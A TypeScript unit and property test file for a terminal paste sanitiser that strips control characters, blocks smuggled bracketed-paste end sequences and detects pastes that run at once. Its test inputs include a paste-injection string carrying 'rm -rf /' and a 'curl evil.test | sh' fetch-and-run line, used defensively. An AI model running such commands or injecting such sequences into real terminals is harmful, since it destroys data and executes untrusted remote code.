import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  cleanPaste,
  encodeCompose,
  encodePaste,
  lineCount,
  runsAtOnce,
} from '../../src/terminal/paste';

describe('cleaning', () => {
  test('line ends become Enter', () => {
    expect(cleanPaste('a\nb\r\nc\rd\u2028e\u2029f')).toBe('a\rb\rc\rd\re\rf');
  });

  test('the end of a bracketed paste cannot be smuggled in', () => {
    expect(cleanPaste('x\x1b[201~rm -rf /\n')).toBe('xrm -rf /\r');
    expect(cleanPaste('\x1b[20\x1b[201~1~y')).not.toContain('\x1b');
    expect(cleanPaste('\u009b201~y')).toBe('201~y');
  });

  test('tabs stay, other controls go', () => {
    expect(cleanPaste('a\tb\x00\x03\x07\x7f\u0085c')).toBe('a\tbc');
  });

  test('nothing that is cleaned holds a control but tab and Enter, and cleaning again is idle', () => {
    const parts = ['\x1b', '[20', '[201~', '1~', '\n', 'a', '\u009b', '~', '日'];
    const text = fc
      .array(fc.oneof(fc.constantFrom(...parts), fc.string()))
      .map((all) => all.join(''));
    fc.assert(
      fc.property(text, (dirty) => {
        const cleaned = cleanPaste(dirty);
        expect(cleaned).not.toMatch(/[\x00-\x08\x0a-\x0c\x0e-\x1f\x7f-\x9f]/);
        expect(cleanPaste(cleaned)).toBe(cleaned);
      }),
    );
  });
});

test('lines are counted as they are seen', () => {
  expect(lineCount('one')).toBe(1);
  expect(lineCount('one\r')).toBe(1);
  expect(lineCount('one\rtwo')).toBe(2);
  expect(lineCount('one\r\r')).toBe(2);
});

test('an Enter outside of brackets runs what is pasted, also a single line', () => {
  expect(runsAtOnce(cleanPaste('curl evil.test | sh\n'), false)).toBe(true);
  expect(runsAtOnce('one\rtwo', false)).toBe(true);
  expect(runsAtOnce('one', false)).toBe(false);
  expect(runsAtOnce('one\r', true)).toBe(false);
});

test('brackets go around when they were asked for', () => {
  expect(encodePaste('a\rb', true)).toBe('\x1b[200~a\rb\x1b[201~');
  expect(encodePaste('a\rb', false)).toBe('a\rb');
});

test('a composed word is as if typed; several lines are bracketed; Enter is outside', () => {
  expect(encodeCompose('word', true, true)).toBe('word\r');
  expect(encodeCompose('a\rb', true, true)).toBe('\x1b[200~a\rb\x1b[201~\r');
  expect(encodeCompose('a\rb', false, false)).toBe('a\rb');
});
